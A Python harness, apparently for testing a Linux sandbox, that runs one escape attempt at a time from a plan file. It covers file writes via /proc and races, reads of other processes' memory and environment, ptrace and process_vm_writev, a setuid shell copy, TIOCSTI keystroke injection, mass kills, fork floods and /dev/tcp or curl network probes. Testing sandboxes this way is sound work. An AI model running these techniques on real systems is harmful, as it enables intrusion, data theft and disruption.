# Runs one attempt of the list `plan.json` to leave the sandbox. What it achieves is judged from outside; it reports
# with EFFECT only what has no trace outside, such as a system call that succeeded.
import ctypes, errno, json, mmap, os, socket, struct, subprocess, sys, tempfile, threading, time

libc = ctypes.CDLL(None, use_errno=True)
EVIL = b"EVIL\n"
HERE = os.getcwd()
NR = dict(mount=165, umount2=166, pivot_root=155, chroot=161, unshare=272, setns=308, clone=56, clone3=435,
          init_module=175, finit_module=313, delete_module=176, kexec_load=246, kexec_file_load=320, reboot=169,
          swapon=167, swapoff=168, sethostname=170, setdomainname=171, settimeofday=164, clock_settime=227,
          adjtimex=159, syslog=103, quotactl=179, acct=163, add_key=248, request_key=249, keyctl=250, bpf=321,
          perf_event_open=298, userfaultfd=323, open_by_handle_at=304, fanotify_init=300, io_uring_setup=425,
          fsopen=430, fspick=433, open_tree=428, move_mount=429, mount_setattr=442, iopl=172, ioperm=173,
          ptrace=101, process_vm_readv=310, process_vm_writev=311, pidfd_open=434, pidfd_getfd=438,
          pidfd_send_signal=424, name_to_handle_at=303, renameat2=316)
SHORT = 0x40000000


def effect(*words):
    print("EFFECT:", *words, flush=True)


def call(name, *args, bit=0):
    args = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in args]
    return libc.syscall(ctypes.c_long(NR[name] | bit), *args)


def evil_file():
    handle, path = tempfile.mkstemp(dir=HERE)
    os.write(handle, EVIL)
    os.close(handle)
    return path


def put(path, flags=os.O_WRONLY):
    handle = os.open(path, flags, 0o666)
    os.write(handle, EVIL)
    os.close(handle)


def shell(line, *args):
    subprocess.run(["sh", "-c", line, "sh", *args], timeout=20, stdin=subprocess.DEVNULL)


def relative(path):
    return os.path.relpath(path, HERE)


# Writing to a file.
def w_mmap(p):
    handle = os.open(p, os.O_RDWR)
    m = mmap.mmap(handle, 1)
    m[0:1] = b"X"
    m.flush()


def w_link(p):
    os.link(p, "linked")
    put("linked")


def w_symlink(p):
    os.symlink(p, "soft")
    put("soft")


def w_symlink_directory(p):
    os.symlink(os.path.dirname(p), "softdir")
    put("softdir/" + os.path.basename(p))


def w_tmpfile(p):
    handle = os.open(os.path.dirname(p), os.O_TMPFILE | os.O_WRONLY, 0o600)
    os.write(handle, EVIL)
    os.link("/proc/self/fd/%d" % handle, p + ".new", follow_symlinks=True)


def w_path_reopen(p, base="/proc/self/fd/"):
    handle = os.open(p, os.O_PATH)
    put(base + str(handle))


def w_dirfd(p):
    root = os.open("/", os.O_PATH | os.O_DIRECTORY)
    handle = os.open(p.lstrip("/"), os.O_WRONLY, dir_fd=root)
    os.write(handle, EVIL)


def w_dirfd_parent(p):
    handle = os.open(os.path.basename(p), os.O_WRONLY, dir_fd=os.open(os.path.dirname(p), os.O_PATH))
    os.write(handle, EVIL)


def w_exchange(p):
    call("renameat2", -100, evil_file().encode(), -100, p.encode(), 2)


def w_copy_range(p):
    os.copy_file_range(os.open(evil_file(), os.O_RDONLY), os.open(p, os.O_WRONLY), 5)


def w_sendfile(p):
    os.sendfile(os.open(p, os.O_WRONLY), os.open(evil_file(), os.O_RDONLY), 0, 5)


def w_splice(p):
    r, w = os.pipe()
    os.write(w, EVIL)
    os.splice(r, os.open(p, os.O_WRONLY), 5)


def w_bind(p):
    os.unlink(p)
    socket.socket(socket.AF_UNIX).bind(p)


def w_memfd(p):
    handle = os.memfd_create("x")
    os.write(handle, b"#!/bin/sh\necho EVIL > \"$1\"\n")
    subprocess.run(["/proc/%d/fd/%d" % (os.getpid(), handle), p], timeout=9)


def w_late(p):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.15)
            put(p)
        os._exit(0)
    os.wait()


def w_thread(p):
    def work():
        try:
            put(p)
        except OSError as error:
            print(error)
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()


def w_remount(p):
    libc.mount(b"none", b"/", None, 4096 | 32, None)
    libc.mount(b"none", os.path.dirname(p).encode(), None, 4096 | 32, None)
    put(p)


def w_unshare(p):
    subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -o remount,rw,bind /; echo EVIL > \"$1\"", "sh", p], timeout=9)
    put(p)


def w_bind_mount(p):
    os.mkdir("m")
    libc.mount(os.path.dirname(p).encode(), b"m", None, 4096, None)
    put("m/" + os.path.basename(p))


def w_handle(p):
    buffer = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, p.encode(), buffer, ctypes.byref(mount), 0)
    handle = libc.open_by_handle_at(os.open("/", os.O_RDONLY), buffer, os.O_WRONLY)
    os.write(handle, EVIL)


def w_race(p):
    os.mkdir("race")
    open("race/" + os.path.basename(p), "w").close()
    os.symlink(os.path.dirname(p), "other")
    child = os.fork()
    if child == 0:
        until = time.time() + 1
        while time.time() < until:
            call("renameat2", -100, b"race", -100, b"other", 2)
        os._exit(0)
    until = time.time() + 1
    while time.time() < until:
        for how in (put, lambda q: os.truncate(q, 0), lambda q: os.chmod(q, 0o777)):
            try:
                how("race/" + os.path.basename(p))
            except OSError:
                pass
    os.wait()


WRITE = dict(
    open=lambda p: put(p),
    append=lambda p: put(p, os.O_WRONLY | os.O_APPEND),
    read_write=lambda p: put(p, os.O_RDWR),
    create=lambda p: put(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC),
    open_truncate=lambda p: os.close(os.open(p, os.O_RDONLY | os.O_TRUNC)),
    truncate=lambda p: os.truncate(p, 0),
    rename_over=lambda p: os.rename(evil_file(), p),
    rename_away=lambda p: os.rename(p, "stolen"),
    rename_directory=lambda p: os.rename(os.path.dirname(p), "stolen"),
    link=w_link, link_over=lambda p: (os.unlink(p), os.link(evil_file(), p)), symlink=w_symlink,
    symlink_directory=w_symlink_directory,
    unlink=os.unlink, chmod=lambda p: os.chmod(p, 0o777), chown=lambda p: os.chown(p, 1, 1),
    utime=lambda p: os.utime(p, (1, 1)), xattr=lambda p: os.setxattr(p, "user.x", b"x"),
    mmap=w_mmap, tmpfile=w_tmpfile,
    proc_root=lambda p: put("/proc/self/root" + p), proc_one_root=lambda p: put("/proc/1/root" + p),
    proc_parent_root=lambda p: put("/proc/%d/root%s" % (os.getppid(), p)),
    proc_cwd=lambda p: put("/proc/self/cwd/" + relative(p)), dots=lambda p: put(relative(p)),
    thread_root=lambda p: put("/proc/thread-self/root" + p),
    dirfd=w_dirfd, dirfd_parent=w_dirfd_parent, path_reopen=w_path_reopen,
    dev_fd=lambda p: w_path_reopen(p, "/dev/fd/"), exchange=w_exchange, copy_range=w_copy_range,
    sendfile=w_sendfile, splice=w_splice, allocate=lambda p: os.posix_fallocate(os.open(p, os.O_WRONLY), 0, 99),
    bind=w_bind, memfd=w_memfd, late=w_late, thread=w_thread, remount=w_remount, unshare=w_unshare,
    bind_mount=w_bind_mount, handle=w_handle, race=w_race,
    redirect=lambda p: shell("echo EVIL > \"$1\"", p), tee=lambda p: shell("echo EVIL | tee \"$1\"", p),
    dd=lambda p: shell("echo EVIL | dd of=\"$1\" conv=notrunc", p), cp=lambda p: shell("echo EVIL > e; cp -f e \"$1\"", p),
    mv=lambda p: shell("echo EVIL > e; mv -f e \"$1\"", p), sed=lambda p: shell("sed -i s/./X/ \"$1\"", p),
    install=lambda p: shell("echo EVIL > e; install e \"$1\"", p), rm=lambda p: shell("rm -rf \"$1\"", p),
    tar=lambda p: shell("echo EVIL > e; tar -cPf t.tar --transform \"s,.*,$1,\" e; tar -xPf t.tar", p),
    git=lambda p: shell("git config -f \"$1\" core.x y", p), perl=lambda p: shell("perl -e 'open F,\">\",shift; print F 1' \"$1\"", p),
)

# Creating entries in a directory.
ENTRY = dict(
    file=lambda d: put(d + "/evil", os.O_WRONLY | os.O_CREAT), directory=lambda d: os.mkdir(d + "/evil"),
    symlink=lambda d: os.symlink("x", d + "/evil"), fifo=lambda d: os.mkfifo(d + "/evil"),
    device=lambda d: os.mknod(d + "/evil", 0o60600, os.makedev(8, 0)), bind=lambda d: socket.socket(socket.AF_UNIX).bind(d + "/evil"),
    rename_in=lambda d: os.rename(evil_file(), d + "/evil"), link_in=lambda d: os.link(evil_file(), d + "/evil"),
    chmod=lambda d: os.chmod(d, 0o777), xattr=lambda d: os.setxattr(d, "user.x", b"x"), rmtree=lambda d: shell("rm -rf \"$1\"", d),
)


# Reading a secret.
def show(path):
    with open(path, "rb") as file:
        sys.stdout.buffer.write(file.read())


def r_handle(p):
    buffer = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, p.encode(), buffer, ctypes.byref(mount), 0)
    show("/proc/self/fd/%d" % libc.open_by_handle_at(os.open("/", os.O_RDONLY), buffer, os.O_RDONLY))


def r_link(p):
    os.link(p, "hard")
    show("hard")


def r_symlink(p):
    os.symlink(p, "softr")
    show("softr")


def r_processes(p):
    for process in os.listdir("/proc"):
        if process.isdigit():
            for way in ("/proc/%s/root%s", "/proc/%s/cwd/%s"):
                try:
                    show(way % (process, p if "root" in way else relative(p)))
                except OSError:
                    pass


def r_unmount(p):
    for directory in (p, os.path.dirname(p), os.path.dirname(os.path.dirname(p))):
        libc.umount2(directory.encode(), 2)
    show(p)


def r_unshare(p):
    subprocess.run(["unshare", "-Urm", "sh", "-c", "umount -l \"$1\" \"$(dirname \"$1\")\"; cat \"$1\"", "sh", p], timeout=9)


def r_rename(p):
    os.rename(os.path.dirname(p), "stolen")
    show("stolen/" + os.path.basename(p))


def r_bind(p):
    os.mkdir("b")
    libc.mount(os.path.dirname(p).encode(), b"b", None, 4096, None)
    show("b/" + os.path.basename(p))


READ = dict(
    open=show, proc_root=lambda p: show("/proc/self/root" + p), proc_one=lambda p: show("/proc/1/root" + p),
    processes=r_processes, dots=lambda p: show(relative(p)), link=r_link, symlink=r_symlink, handle=r_handle,
    unmount=r_unmount, unshare=r_unshare, rename=r_rename, bind=r_bind,
    cat=lambda p: shell("cat \"$1\"", p), grep=lambda p: shell("grep -r SECRET \"$1\"", os.path.dirname(p)),
    tar=lambda p: shell("tar -cf - \"$1\" | cat", p), find=lambda p: shell("find \"$1\" -type f -exec cat {} +", os.path.dirname(p)),
    git=lambda p: shell("git diff --no-index /dev/null \"$1\"", p), path_reopen=lambda p: show("/proc/self/fd/%d" % os.open(p, os.O_PATH)),
)


# Creating a control file.
def above(path):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)


def c_directory(p):
    os.makedirs(p)
    open(p + "/evil", "w").close()


def c_again(p):
    until = time.time() + 0.6
    while time.time() < until:
        try:
            above(p)
            put(p, os.O_WRONLY | os.O_CREAT)
        except OSError:
            pass


def c_above_link(p):
    # The directory of the file is a link to another one.
    os.makedirs("real", exist_ok=True)
    put("real/" + os.path.basename(p), os.O_WRONLY | os.O_CREAT)
    os.symlink("real", os.path.dirname(p) or "nothing")


def c_above_rename(p):
    top = p.split("/")[0]
    os.makedirs(os.path.dirname("built/" + p), exist_ok=True)
    put("built/" + p, os.O_WRONLY | os.O_CREAT)
    os.rename("built/" + top, top)


def c_left(p):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(400):
                try:
                    above(p)
                    put(p, os.O_WRONLY | os.O_CREAT)
                except OSError:
                    pass
                time.sleep(0.002)
        os._exit(0)
    os.wait()


def c_many(p):
    for number in range(1, 1002):
        open(os.path.dirname(p) + "blocked-%d-%s" % (number, os.path.basename(p)), "w").close()
    put(p, os.O_WRONLY | os.O_CREAT)


CONTROL = dict(
    create=lambda p: (above(p), put(p, os.O_WRONLY | os.O_CREAT)), rename=lambda p: (above(p), os.rename(evil_file(), p)),
    link=lambda p: (above(p), os.link(evil_file(), p)), symlink=lambda p: (above(p), os.symlink(evil_file(), p)),
    directory=c_directory, fifo=lambda p: (above(p), os.mkfifo(p)), again=c_again, above_link=c_above_link,
    above_rename=c_above_rename, left=c_left, many=c_many,
    exchange=lambda p: (above(p), open("e2", "w").close(), call("renameat2", -100, b"e2", -100, p.encode(), 1)),
)


# The network.
def connect(family, kind, address, proto=0):
    s = socket.socket(family, kind, proto)
    s.settimeout(2)
    if kind == socket.SOCK_DGRAM:
        s.sendto(EVIL, address)
    else:
        s.connect(address)
        s.send(EVIL)


def n_dns(host, port):
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x07example\x00\x00\x01\x00\x01"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (host, port))


def n_fastopen(host, port):
    socket.socket().sendto(EVIL, 0x20000000, (host, port))


def n_own(port):
    for host in ("127.0.0.1", "::1", "localhost"):
        try:
            socket.create_connection((host, port), 2)
            effect("reached the server at", host)
        except OSError as error:
            print(error)


def n_vsock(cid):
    s = socket.socket(40, socket.SOCK_STREAM)
    effect("a socket to the host of the virtual machine")
    s.connect((cid, 1024))


def n_family(family, kind, proto=0):
    socket.socket(family, kind, proto)
    effect("a socket of family", family)


def n_scan(kind):
    # The machine has many addresses; every reached port is an effect.
    for last in range(1, 255):
        s = socket.socket()
        s.settimeout(0.01)
        if s.connect_ex(("127.0.0.%d" % last, 22)) == 0:
            effect("reached", last)


def n_fd_pass(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    socket.send_fds(s, [EVIL], [1])


NET = dict(
    tcp=lambda h, p: connect(socket.AF_INET, socket.SOCK_STREAM, (h, p)), tcp6=lambda h, p: connect(socket.AF_INET6, socket.SOCK_STREAM, (h, p)),
    udp=lambda h, p: connect(socket.AF_INET, socket.SOCK_DGRAM, (h, p)), udp6=lambda h, p: connect(socket.AF_INET6, socket.SOCK_DGRAM, (h, p)),
    dns=n_dns, fastopen=n_fastopen, unix=lambda p: connect(socket.AF_UNIX, socket.SOCK_STREAM, p),
    unix_datagram=lambda p: connect(socket.AF_UNIX, socket.SOCK_DGRAM, p), abstract=lambda p: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + p),
    abstract_datagram=lambda p: connect(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + p), own=n_own, vsock=n_vsock,
    family=n_family, scan=n_scan, fd_pass=n_fd_pass,
    unix_link=lambda p: (os.symlink(p, "socklink"), connect(socket.AF_UNIX, socket.SOCK_STREAM, "socklink")),
    unix_proc=lambda p: connect(socket.AF_UNIX, socket.SOCK_STREAM, "/proc/self/root" + p),
    unix_fd=lambda p: connect(socket.AF_UNIX, socket.SOCK_STREAM, "/proc/self/fd/%d" % os.open(p, os.O_PATH)),
    sctp=lambda h, p: connect(socket.AF_INET, socket.SOCK_STREAM, (h, p), 132),
    icmp=lambda h: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\0\0\0", (h, 0)) and effect("a ping to", h) if h != "127.0.0.1" else None,
    bash=lambda h, p: subprocess.run(["bash", "-c", "echo EVIL > /dev/tcp/%s/%d" % (h, p)], timeout=9),
    bash_udp=lambda h, p: subprocess.run(["bash", "-c", "echo EVIL > /dev/udp/%s/%d" % (h, p)], timeout=9),
    curl=lambda h, p: subprocess.run(["curl", "-s", "-m", "3", "--noproxy", "*", "http://%s:%d/" % (h, p)], timeout=9),
    curl_proxy=lambda h, p: subprocess.run(["curl", "-s", "-m", "3", "http://%s:%d/" % (h, p)], timeout=9),
    curl_unix=lambda p: subprocess.run(["curl", "-s", "-m", "3", "--unix-socket", p, "http://x/"], timeout=9),
    git=lambda h, p: subprocess.run(["git", "ls-remote", "git://%s:%d/x" % (h, p)], timeout=9),
    node=lambda h, p: subprocess.run(["node", "-e", "require('net').connect(%d,'%s').on('error',()=>{}).write('EVIL')" % (p, h)], timeout=9),
    ssh=lambda h, p: subprocess.run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-p", str(p), h, "true"], timeout=9),
)


# System calls and processes.
def e_call(name, *args, bit=0):
    args = [a.encode() if isinstance(a, str) else a for a in args]
    result = call(name, *args, bit=bit)
    if result >= 0:
        effect(name, "returned", result)
    else:
        print(name, errno.errorcode.get(ctypes.get_errno()))


def e_short(name, *args):
    e_call(name, *args, bit=SHORT)


def e_clone(flags):
    before = os.readlink("/proc/self/ns/user"), os.readlink("/proc/self/ns/net")
    result = call("clone", flags | 17, 0, 0, 0, 0)
    if result == 0:
        if (os.readlink("/proc/self/ns/user"), os.readlink("/proc/self/ns/net")) != before or flags & 0x20000:
            effect("a new namespace")
        os._exit(0)
    if result > 0:
        os.waitpid(result, 0)


def e_setns(kind):
    for process in ["1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            own = os.readlink("/proc/self/ns/" + kind)
            handle = os.open("/proc/%s/ns/%s" % (process, kind), os.O_RDONLY)
            if os.readlink("/proc/self/fd/%d" % handle) != own and call("setns", handle, 0) == 0:
                effect("entered", kind)
        except OSError:
            pass


def e_open(path):
    # Opened only: a write could damage the machine.
    os.close(os.open(path, os.O_WRONLY))
    effect("opened", path)


def e_kill(process, number):
    os.kill(process, number)


def e_kill_all(number):
    for process in range(2, 40000):
        if process != os.getpid():
            try:
                os.kill(process, number)
            except OSError:
                pass


def e_ptrace(request):
    for process in [p for p in os.listdir("/proc") if p.isdigit()]:
        process = int(process)
        children = open("/proc/thread-self/children").read().split() if os.path.exists("/proc/thread-self/children") else []
        if process != os.getpid() and str(process) not in children and call("ptrace", request, process, 0, 0) == 0:
            if process == 1:
                effect("traces the supervisor")


def e_vm(process, address):
    local = ctypes.create_string_buffer(b"EVIL", 64)
    mine, theirs = (ctypes.c_long * 2)(ctypes.addressof(local), 4), (ctypes.c_long * 2)(address, 4)
    for name in ("process_vm_writev", "process_vm_readv"):
        libc.syscall(NR[name], process, mine, 1, theirs, 1, 0)


def e_memory(process, address):
    with open("/proc/%d/mem" % process, "r+b") as memory:
        memory.seek(address)
        memory.write(b"EVIL")


def e_pidfd(process):
    handle = call("pidfd_open", process, 0)
    if handle >= 0:
        call("pidfd_send_signal", handle, 9, 0, 0)
        for number in range(16):
            got = call("pidfd_getfd", handle, number, 0)
            if got >= 0 and process != os.getpid():
                print(os.readlink("/proc/self/fd/%d" % got))


def e_environments():
    for process in os.listdir("/proc"):
        if process.isdigit():
            for name in ("environ", "cmdline", "maps", "mem"):
                try:
                    sys.stdout.buffer.write(open("/proc/%s/%s" % (process, name), "rb").read(65536))
                except OSError:
                    pass


def e_descriptors(how):
    for number in range(3, 256):
        try:
            target = os.readlink("/proc/self/fd/%d" % number)
        except OSError:
            continue
        if target.startswith("/proc/"):
            continue
        try:
            if how == "read":
                os.write(1, os.read(number, 999))
            elif how == "write":
                os.write(number, EVIL)
            elif how == "directory":
                for name in os.listdir(number):
                    print(name)
                os.write(os.open("evil", os.O_WRONLY | os.O_CREAT, dir_fd=number), EVIL)
            else:
                put("/proc/self/fd/%d" % number)
        except OSError as error:
            print(error)


def e_typing():
    import fcntl, termios
    for path in ["/dev/tty", "/dev/console"] + ["/dev/pts/%d" % n for n in range(9)]:
        try:
            fcntl.ioctl(os.open(path, os.O_RDWR | os.O_NOCTTY), termios.TIOCSTI, b"x")
            effect("typed into", path)
        except OSError:
            pass


def e_privileges():
    status = open("/proc/self/status").read()
    if "NoNewPrivs:\t1" not in status or "Seccomp:\t2" not in status:
        effect("no filter, or setuid programs gain rights")
    for line in status.splitlines():
        if line.startswith(("CapPrm", "CapEff", "CapAmb")) and int(line.split()[1], 16):
            effect(line)


def e_setuid():
    import shutil
    shutil.copy("/bin/sh", "rootsh")
    os.chmod("rootsh", 0o6777)
    subprocess.run(["./rootsh", "-p", "-c", "id"], timeout=9)
    e_privileges()


def e_capability():
    shell("cp /bin/true cap; setcap cap_sys_admin+ep cap && echo EFFECT: a capability")


def e_uring():
    params = ctypes.create_string_buffer(248)
    if libc.syscall(NR["io_uring_setup"], 8, params) >= 0:
        effect("a ring")


def e_core():
    import resource
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        effect("core files are allowed")
    except (ValueError, OSError):
        pass
    subprocess.run([sys.executable, "-c", "import os; os.abort()"], timeout=9)


def e_ipc():
    key = 0x1234
    if libc.shmget(key, 100, 0) >= 0 or libc.semget(key, 1, 0) >= 0 or libc.msgget(key, 0) >= 0:
        effect("shared memory of the machine")


def e_priority(process):
    for number in (process, 1):
        libc.setpriority(0, number, 19)


def e_forks():
    children = []
    try:
        for _ in range(300):
            child = os.fork()
            if child == 0:
                time.sleep(60)
                os._exit(0)
            children.append(child)
    except OSError as error:
        print(error)


def e_fill(path):
    with open(path, "wb") as file:
        for _ in range(32):
            file.write(bytes(1 << 20))


def e_helper(*words):
    subprocess.run(words, timeout=9, stdin=subprocess.DEVNULL)


ESCAPE = {name[2:]: value for name, value in list(globals().items()) if name.startswith("e_")}

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "plan.json")) as plan:
    kind, how, args = json.load(plan)[int(sys.argv[1])]
table = dict(write=WRITE, entry=ENTRY, read=READ, control=CONTROL, net=NET, escape=ESCAPE)[kind]
try:
    table[how](*args)
except (OSError, subprocess.SubprocessError, ValueError) as error:
    print("failed:", error)
print("done")
